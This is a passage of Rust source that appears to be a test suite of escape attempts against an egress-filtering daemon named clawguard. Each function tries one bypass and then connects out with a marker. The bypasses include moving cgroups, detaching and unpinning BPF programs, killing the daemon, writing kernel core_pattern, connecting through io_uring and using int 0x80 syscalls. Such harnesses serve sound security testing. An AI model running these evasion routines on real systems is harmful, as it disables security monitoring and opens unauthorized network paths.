    let done = fs::write(child.join("cgroup.procs"), "0").and_then(|()| tcp(libc::AF_INET, kit.tcp4(), kit));
    let _ = fs::write(child.parent().unwrap_or(Path::new("/")).join("cgroup.procs"), "0");
    let _ = fs::remove_dir(child);
    done
}

/// A mount of one's own, if the one that is there is out of reach.
fn mount_cgroup2(kit: &Kit) -> io::Result<()> {
    nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWUSER | nix::sched::CloneFlags::CLONE_NEWNS)?;
    let place = std::env::temp_dir().join(format!("cgroup-{}", std::process::id()));
    fs::create_dir_all(&place)?;
    let path = format!("{}\0", place.display());
    let kind = "cgroup2\0";
    raw::call(libc::SYS_mount, [kind.as_ptr() as usize, path.as_ptr() as usize, kind.as_ptr() as usize, 0, 0, 0])?;
    fs::write(place.join("cgroup.procs"), "0")?;
    tcp(libc::AF_INET, kit.tcp4(), kit)
}

/// ping(8) has a capability of its own.
fn setuid_helper(kit: &Kit) -> io::Result<()> {
    let pattern: String = kit.marker.iter().map(|byte| format!("{byte:02x}")).collect();
    let status = std::process::Command::new("ping")
        .args(["-c", "1", "-W", "1", "-p", &pattern, &kit.v4.to_string()])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()?;
    if status.success() { Ok(()) } else { Err(ErrorKind::PermissionDenied.into()) }
}

fn thread_connect(kit: &Kit) -> io::Result<()> {
    thread::scope(|scope| {
        scope.spawn(|| tcp(libc::AF_INET, kit.tcp4(), kit)).join().unwrap_or_else(|_| Err(ErrorKind::Other.into()))
    })
}

/// A grandchild that outlives everybody.
fn double_fork(kit: &Kit) -> io::Result<()> {
    use sys::process::{Forked, fork, leave};
    if let Forked::Parent(child) = fork(None, nix::sched::CloneFlags::empty())? {
        child.wait()?;
        thread::sleep(Duration::from_millis(20));
        return Ok(());
    }
    let _ = nix::unistd::setsid();
    if let Ok(Forked::Parent(_)) = fork(None, nix::sched::CloneFlags::empty()) {
        leave(0);
    }
    for _ in 0..10 {
        let _ = tcp(libc::AF_INET, kit.tcp4(), kit);
        let _ = udp(libc::AF_INET, kit.udp4(), kit);
        thread::sleep(Duration::from_millis(30));
    }
    leave(0)
}

fn unshare_user_raw(kit: &Kit) -> io::Result<()> {
    nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWUSER)?;
    raw_icmp(libc::AF_INET, 1, kit)
}

/// Detaches every link that it can open, then connects.
fn bpf_detach(kit: &Kit) -> io::Result<()> {
    const BPF_LINK_GET_FD_BY_ID: usize = 30;
    const BPF_LINK_DETACH: usize = 34;
    for id in 1..4096_u32 {
        let attributes = [id, 0, 0];
        let a = [BPF_LINK_GET_FD_BY_ID, attributes.as_ptr() as usize, 12, 0, 0, 0];
        match raw::call(libc::SYS_bpf, a) {
            Ok(link) => {
                let attributes = [link as u32];
                let _ = raw::call(libc::SYS_bpf, [BPF_LINK_DETACH, attributes.as_ptr() as usize, 4, 0, 0, 0]);
            }
            Err(error) if error.raw_os_error() == Some(libc::ENOENT) => {}
            Err(error) => return tcp(libc::AF_INET, kit.tcp4(), kit).or(Err(error)),
        }
    }
    tcp(libc::AF_INET, kit.tcp4(), kit)
}

/// Removes whatever pins it finds, then connects.
fn unpin(kit: &Kit) -> io::Result<()> {
    for entry in fs::read_dir("/sys/fs/bpf")?.flatten() {
        let _ = fs::remove_dir_all(entry.path());
    }
    tcp(libc::AF_INET, kit.tcp4(), kit)
}

/// Kills whatever it can signal that is called clawguard, then connects.
fn kill_daemon(kit: &Kit) -> io::Result<()> {
    for entry in fs::read_dir("/proc")?.flatten() {
        let name = entry.file_name();
        let Some(pid) = name.to_str().and_then(|name| name.parse::<i32>().ok()) else { continue };
        let command = fs::read_to_string(entry.path().join("comm")).unwrap_or_default();
        if command.starts_with("clawguard") && pid != 1 {
            raw::call(libc::SYS_kill, [pid as usize, 9, 0, 0, 0, 0])?;
        }
    }
    tcp(libc::AF_INET, kit.tcp4(), kit)
}

/// Has the kernel answer for it: a core dump's helper would run outside.
fn sysctl_write(kit: &Kit) -> io::Result<()> {
    let pattern = fs::read_to_string("/proc/sys/kernel/core_pattern")?;
    fs::OpenOptions::new().write(true).open("/proc/sys/kernel/core_pattern")?.write_all(pattern.as_bytes())?;
    // It could write; what it would write is another matter, and done here without.
    tcp(libc::AF_INET, kit.tcp4(), kit)
}

/// A connection by io_uring: a ring, one entry, and nothing of connect(2).
fn io_uring_connect(kit: &Kit) -> io::Result<()> {
    const IORING_OP_CONNECT: u8 = 16;
    const IORING_OFF_SQES: usize = 0x1000_0000;
    let mut parameters = [0_u32; 30];
    let ring = raw::call(libc::SYS_io_uring_setup, [4, parameters.as_mut_ptr() as usize, 0, 0, 0, 0])?;
    let map = |length: usize, offset: usize| {
        raw::call(libc::SYS_mmap, [0, length, 3, libc::MAP_SHARED as usize, ring, offset])
    };
    let (queue, entries) = (map(4096, 0)?, map(4096, IORING_OFF_SQES)?);
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    let to = raw::bytes(kit.tcp4());
    let mut entry = [0_u8; 64];
    entry[0] = IORING_OP_CONNECT;
    entry[4..8].copy_from_slice(&(fd as i32).to_ne_bytes());
    entry[8..16].copy_from_slice(&(to.len() as u64).to_ne_bytes());
    entry[16..24].copy_from_slice(&(to.as_ptr() as u64).to_ne_bytes());
    // struct io_sqring_offsets begins at word 10: head, tail, ring mask, ring entries, flags, dropped, array.
    let (tail, array) = (parameters[11] as usize, parameters[16] as usize);
    // SAFETY: both mappings are a page long and the kernel's offsets lie inside them.
    unsafe {
        std::ptr::copy_nonoverlapping(entry.as_ptr(), entries as *mut u8, entry.len());
        ((queue + array) as *mut u32).write_volatile(0);
        ((queue + tail) as *mut u32).write_volatile(1);
    }
    raw::call(libc::SYS_io_uring_enter, [ring, 1, 1, 1, 0, 0])?;
    thread::sleep(Duration::from_millis(50));
    raw::send_to(fd, &kit.marker, libc::MSG_NOSIGNAL, None).map(drop)
}

/// The same by the 32-bit system call table.
#[cfg(target_arch = "x86_64")]
fn int80_connect(kit: &Kit) -> io::Result<()> {
    const SOCKET: usize = 359;
    const CONNECT: usize = 362;
    const MAP_32BIT: i32 = 0x40;
    let flags = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | MAP_32BIT;
    let low = raw::call(libc::SYS_mmap, [0, 4096, 3, flags as usize, usize::MAX, 0])?;
    let to = raw::bytes(kit.tcp4());
    // SAFETY: the page is this function's own, and longer than an address.
    unsafe { std::ptr::copy_nonoverlapping(to.as_ptr(), low as *mut u8, to.len()) };
    let call = |number: usize, a: usize, b: usize, c: usize| -> io::Result<usize> {
        let answer: i32;
        // SAFETY: a system call by the old gate. rbx is the compiler's own and is put back.
        unsafe {
            std::arch::asm!(
                "push rbx", "mov ebx, {a:e}", "int 0x80", "pop rbx",
                a = in(reg) a,
                inlateout("eax") number as i32 => answer,
                in("ecx") b as i32,
                in("edx") c as i32,
                out("r8") _, out("r9") _, out("r10") _, out("r11") _,
            );
        }
        if answer < 0 { Err(Error::from_raw_os_error(-answer)) } else { Ok(answer as usize) }
    };
    let fd = call(SOCKET, libc::AF_INET as usize, libc::SOCK_STREAM as usize, 0)?;
    call(CONNECT, fd, low, to.len())?;
    raw::send_to(fd, &kit.marker, 0, None).map(drop)
}

#[cfg(not(target_arch = "x86_64"))]
fn int80_connect(_: &Kit) -> io::Result<()> {
    Err(ErrorKind::Unsupported.into())
}
